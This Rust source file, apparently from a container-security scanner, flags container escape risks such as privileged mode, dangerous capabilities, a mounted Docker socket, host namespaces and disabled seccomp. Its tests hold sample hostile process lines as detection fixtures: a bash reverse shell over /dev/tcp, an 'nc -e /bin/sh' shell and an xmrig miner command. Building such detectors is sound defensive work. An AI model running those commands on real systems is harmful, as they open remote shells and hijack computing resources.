//! A container's runtime configuration, judged: what `docker inspect`, the daemon's
//! `info` and `top` said, as [`ContainerRuntime`].

use holdfast_model::{ContainerMount, ContainerRuntime};
use holdfast_model::{Finding, FindingKind, Severity};
use regex::Regex;
use serde::Deserialize;

use super::EscapeRules;
use crate::rules::{clip, file_name, under, RuleText};

/// The runtime tables of `rules.toml`.
#[derive(Debug, Deserialize)]
pub(crate) struct RuntimeRules {
    privileged: RuleText,
    capability: Vec<CapabilityRule>,
    capability_text: RuleText,
    socket: Vec<SocketRule>,
    socket_text: RuleText,
    namespace: Vec<NamespaceRule>,
    namespace_text: RuleText,
    host_path: Vec<HostPathRule>,
    host_path_text: RuleText,
    device_text: RuleText,
    cgroup_text: RuleText,
    seccomp_text: RuleText,
    apparmor_text: RuleText,
    root_text: RuleText,
    process: Vec<ProcessRule>,
}

#[derive(Debug, Deserialize)]
struct CapabilityRule {
    name: String,
    severity: Severity,
    why: String,
}

#[derive(Debug, Deserialize)]
struct SocketRule {
    file: String,
    id: String,
    runtime: String,
}

#[derive(Debug, Deserialize)]
struct NamespaceRule {
    field: String,
    id: String,
    severity: Severity,
    title: String,
    description: String,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "lowercase")]
enum PathMatch {
    Exact,
    Subtree,
}

#[derive(Debug, Deserialize)]
struct HostPathRule {
    path: String,
    #[serde(rename = "match")]
    match_: PathMatch,
    id: String,
    severity: Severity,
}

#[derive(Debug, Deserialize)]
struct ProcessRule {
    #[serde(flatten)]
    text: RuleText,
    #[serde(with = "serde_regex")]
    pattern: Regex,
}

/// Regexes in the table are compiled when it is read.
mod serde_regex {
    use regex::Regex;
    use serde::{Deserialize, Deserializer};

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Regex, D::Error> {
        let s = String::deserialize(d)?;
        Regex::new(&s).map_err(serde::de::Error::custom)
    }
}

/// One step less severe, for read-only mounts.
fn lower(s: Severity) -> Severity {
    match s {
        Severity::Critical => Severity::High,
        Severity::High => Severity::Medium,
        _ => Severity::Low,
    }
}

/// `CAP_SYS_ADMIN`, `sys_admin` → `SYS_ADMIN`.
fn cap_name(c: &str) -> String {
    let upper = c.trim().to_ascii_uppercase();
    upper.strip_prefix("CAP_").unwrap_or(&upper).to_string()
}

/// Whether the container runs as uid 0.
fn runs_as_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or_default().trim();
    name.is_empty() || name == "root" || name == "0"
}

fn security_opt<'a>(c: &'a ContainerRuntime, key: &str) -> Option<&'a str> {
    c.security_opt.iter().find_map(|o| {
        let rest = o.strip_prefix(key)?;
        rest.strip_prefix('=').or_else(|| rest.strip_prefix(':'))
    })
}

fn daemon_has(c: &ContainerRuntime, name: &str) -> bool {
    let want = format!("name={name}");
    c.daemon_security_options
        .iter()
        .any(|o| o.split(',').any(|part| part == want))
}

/// All escape findings for one container.
pub(crate) fn check(rules: &EscapeRules, c: &ContainerRuntime) -> Vec<Finding> {
    let r = &rules.runtime;
    let mut out = Vec::new();
    if c.privileged {
        out.push(r.privileged.finding(FindingKind::Escape));
    } else {
        // Privileged mode already grants and disables what these would report.
        capabilities(r, c, &mut out);
        devices(r, c, &mut out);
        confinement(r, c, &mut out);
    }
    mounts(r, c, &mut out);
    namespaces(r, c, &mut out);
    if runs_as_root(&c.user)
        && !(daemon_has(c, "userns") && c.userns_mode != "host")
        && !daemon_has(c, "rootless")
    {
        let mut f = r.root_text.finding(FindingKind::Escape);
        f.evidence = Some(format!(
            "user `{}`",
            if c.user.is_empty() {
                "root (image default)"
            } else {
                &c.user
            }
        ));
        out.push(f);
    }
    if let Some(k) = &c.kernel_version {
        out.extend(rules.kernel.check(k));
    }
    processes(r, c, &mut out);
    out
}

fn capabilities(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    let dropped: Vec<String> = c.cap_drop.iter().map(|d| cap_name(d)).collect();
    for added in &c.cap_add {
        let name = cap_name(added);
        // `--cap-drop X --cap-add X` still grants it; `--cap-drop ALL` does not cancel an add.
        let Some(rule) = r.capability.iter().find(|rule| rule.name == name) else {
            continue;
        };
        let t = &r.capability_text;
        let mut f = t.finding(FindingKind::Escape);
        f.id = format!("{}-{name}", t.id);
        f.severity = rule.severity;
        f.title = format!("Capability {name} is added to the container");
        f.description = format!("{} {name} lets a process {}.", t.description, rule.why);
        f.evidence = Some(if dropped.is_empty() {
            format!("--cap-add {added}")
        } else {
            format!("--cap-add {added} (dropped: {})", dropped.join(","))
        });
        out.push(f);
    }
}

fn devices(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    for d in &c.devices {
        let mut f = r.device_text.finding(FindingKind::Escape);
        f.evidence = Some(format!("--device {d}"));
        out.push(f);
    }
}

fn confinement(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    let seccomp_off = security_opt(c, "seccomp") == Some("unconfined")
        // The daemon answered and has no seccomp support at all.
        || (!c.daemon_security_options.is_empty() && !daemon_has(c, "seccomp"));
    if seccomp_off {
        let mut f = r.seccomp_text.finding(FindingKind::Escape);
        f.evidence = Some(match security_opt(c, "seccomp") {
            Some(v) => format!("--security-opt seccomp={v}"),
            None => "the daemon has no seccomp support".into(),
        });
        out.push(f);
    }
    // Only judged where the daemon applies AppArmor; an empty profile on a created
    // container means docker-default will be applied at start.
    let apparmor_off =
        security_opt(c, "apparmor") == Some("unconfined") || c.apparmor_profile == "unconfined";
    if daemon_has(c, "apparmor") && apparmor_off {
        let mut f = r.apparmor_text.finding(FindingKind::Escape);
        f.evidence = Some("apparmor=unconfined".into());
        out.push(f);
    }
    let cgroup_rw = c.mounts.iter().any(|m| {
        m.read_write
            && (under(&m.destination, "/sys/fs/cgroup") || under(&m.source, "/sys/fs/cgroup"))
    });
    if cgroup_rw {
        let mut f = r.cgroup_text.finding(FindingKind::Escape);
        f.evidence = c
            .mounts
            .iter()
            .find(|m| m.read_write && under(&m.destination, "/sys/fs/cgroup"))
            .or_else(|| c.mounts.iter().find(|m| under(&m.source, "/sys/fs/cgroup")))
            .map(describe_mount);
        out.push(f);
    }
}

fn describe_mount(m: &ContainerMount) -> String {
    format!(
        "{}:{}:{}",
        m.source,
        m.destination,
        if m.read_write { "rw" } else { "ro" }
    )
}

fn mounts(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    for m in c.mounts.iter().filter(|m| m.kind == "bind") {
        let source = m.source.trim_end_matches('/');
        let source = if source.is_empty() { "/" } else { source };
        let name = file_name(source);
        if let Some(s) = r.socket.iter().find(|s| s.file == name) {
            let t = &r.socket_text;
            let mut f = t.finding(FindingKind::Escape);
            f.id = s.id.clone();
            f.title = format!("The {} socket is mounted into the container", s.runtime);
            f.evidence = Some(describe_mount(m));
            out.push(f);
            continue;
        }
        let hit = r.host_path.iter().find(|p| match p.match_ {
            PathMatch::Exact => source == p.path,
            PathMatch::Subtree => under(source, &p.path),
        });
        if let Some(p) = hit {
            let t = &r.host_path_text;
            let mut f = t.finding(FindingKind::Escape);
            f.id = p.id.clone();
            f.severity = if m.read_write {
                p.severity
            } else {
                lower(p.severity)
            };
            f.title = format!(
                "Host path {source} is mounted {} at {}",
                if m.read_write {
                    "read-write"
                } else {
                    "read-only"
                },
                m.destination
            );
            f.evidence = Some(describe_mount(m));
            out.push(f);
        }
    }
}

fn namespaces(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    for ns in &r.namespace {
        let mode = match ns.field.as_str() {
            "pid" => &c.pid_mode,
            "network" => &c.network_mode,
            "ipc" => &c.ipc_mode,
            "uts" => &c.uts_mode,
            _ => continue,
        };
        if mode != "host" {
            continue;
        }
        let mut f = r.namespace_text.finding(FindingKind::Escape);
        f.id = ns.id.clone();
        f.severity = ns.severity;
        f.title = ns.title.clone();
        f.description = ns.description.clone();
        f.evidence = Some(format!("--{} host", ns.field));
        out.push(f);
    }
}

fn processes(r: &RuntimeRules, c: &ContainerRuntime, out: &mut Vec<Finding>) {
    for p in &c.processes {
        for rule in &r.process {
            if rule.pattern.is_match(&p.command) {
                let mut f = rule.text.finding(FindingKind::Escape);
                f.evidence = Some(format!(
                    "pid {} ({}): {}",
                    p.pid,
                    p.user,
                    clip(&p.command, 200)
                ));
                out.push(f);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use holdfast_model::ContainerProcess;

    use super::*;
    use crate::escape::RULES;

    fn base() -> ContainerRuntime {
        ContainerRuntime {
            id: "c1".into(),
            user: "1000:1000".into(),
            daemon_security_options: vec!["name=seccomp,profile=default".into()],
            kernel_version: Some("6.18.44".into()),
            ..Default::default()
        }
    }

    fn ids(c: &ContainerRuntime) -> Vec<String> {
        let mut v: Vec<String> = check(&RULES, c).into_iter().map(|f| f.id).collect();
        v.sort();
        v
    }

    fn bind(src: &str, dst: &str, rw: bool) -> ContainerMount {
        ContainerMount {
            kind: "bind".into(),
            source: src.into(),
            destination: dst.into(),
            read_write: rw,
        }
    }

    #[test]
    fn hardened_container_is_clean() {
        let mut c = base();
        c.cap_drop = vec!["ALL".into()];
        c.no_new_privileges = true;
        c.readonly_rootfs = true;
        c.mounts = vec![bind("/etc/localtime", "/etc/localtime", false)];
        assert!(ids(&c).is_empty(), "{:?}", ids(&c));
    }

    #[test]
    fn each_setting_is_found() {
        let mut c = base();
        c.privileged = true;
        assert_eq!(ids(&c), vec!["HF-ESCAPE-PRIVILEGED"]);

        let mut c = base();
        c.cap_add = vec!["CAP_SYS_ADMIN".into(), "net_admin".into(), "CHOWN".into()];
        assert_eq!(
            ids(&c),
            vec!["HF-ESCAPE-CAP-NET_ADMIN", "HF-ESCAPE-CAP-SYS_ADMIN"]
        );

        let mut c = base();
        c.mounts = vec![
            bind("/var/run/docker.sock", "/var/run/docker.sock", true),
            bind("/", "/host", true),
            bind("/proc", "/hostproc", false),
            ContainerMount {
                kind: "volume".into(),
                source: "/var/lib/docker/volumes/x/_data".into(),
                destination: "/data".into(),
                read_write: true,
            },
        ];
        let found = check(&RULES, &c);
        let root = found
            .iter()
            .find(|f| f.id == "HF-ESCAPE-HOST-MOUNT-ROOT")
            .unwrap();
        assert_eq!(root.severity, Severity::Critical);
        let proc_ = found
            .iter()
            .find(|f| f.id == "HF-ESCAPE-HOST-MOUNT-PROC")
            .unwrap();
        assert_eq!(
            proc_.severity,
            Severity::High,
            "read-only is one step lower"
        );
        assert_eq!(
            ids(&c),
            vec![
                "HF-ESCAPE-DOCKER-SOCK",
                "HF-ESCAPE-HOST-MOUNT-PROC",
                "HF-ESCAPE-HOST-MOUNT-ROOT"
            ],
            "a named volume under /var/lib/docker is not a host-path mount"
        );

        let mut c = base();
        c.pid_mode = "host".into();
        c.network_mode = "host".into();
        c.ipc_mode = "container:abc".into();
        assert_eq!(ids(&c), vec!["HF-ESCAPE-HOST-NET", "HF-ESCAPE-HOST-PID"]);

        let mut c = base();
        c.user = String::new();
        c.security_opt = vec!["seccomp=unconfined".into(), "apparmor=unconfined".into()];
        c.mounts = vec![bind("/sys/fs/cgroup", "/sys/fs/cgroup", true)];
        // No AppArmor on this daemon: that option changes nothing, and is not reported.
        assert_eq!(
            ids(&c),
            vec![
                "HF-ESCAPE-CGROUP-WRITABLE",
                "HF-ESCAPE-HOST-MOUNT-SYS",
                "HF-ESCAPE-NO-SECCOMP",
                "HF-ESCAPE-ROOT-NO-USERNS"
            ]
        );
        c.daemon_security_options.push("name=apparmor".into());
        assert!(ids(&c).contains(&"HF-ESCAPE-NO-APPARMOR".to_string()));
        // Root inside a remapped user namespace is not host root.
        c.daemon_security_options.push("name=userns".into());
        assert!(!ids(&c).contains(&"HF-ESCAPE-ROOT-NO-USERNS".to_string()));
    }

    #[test]
    fn kernel_and_processes() {
        let mut c = base();
        c.kernel_version = Some("5.10.90-1-amd64".into());
        assert!(ids(&c).contains(&"HF-ESCAPE-KERNEL-CVE-2022-0847".to_string()));
        let p = |cmd: &str| ContainerProcess {
            pid: "7".into(),
            user: "root".into(),
            command: cmd.into(),
        };
        let mut c = base();
        c.processes = vec![
            p("sleep 600"),
            p("/bin/sh -c sleep 600; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"),
            p("nc -e /bin/sh 10.0.0.1 4444"),
            p("./xmrig --donate-level 1 -o stratum+tcp://pool.example.invalid:3333"),
            // Near misses: a login shell, nc listening, a file named like a miner's docs.
            p("bash -l"),
            p("nc -l -p 8080"),
            p("cat /usr/share/doc/stratum.txt"),
        ];
        let found = check(&RULES, &c);
        let shells = found
            .iter()
            .filter(|f| f.id == "HF-ESCAPE-PROC-REVERSE-SHELL")
            .count();
        let miners = found
            .iter()
            .filter(|f| f.id == "HF-ESCAPE-PROC-MINER")
            .count();
        assert_eq!((shells, miners), (2, 1), "{found:#?}");
    }
}
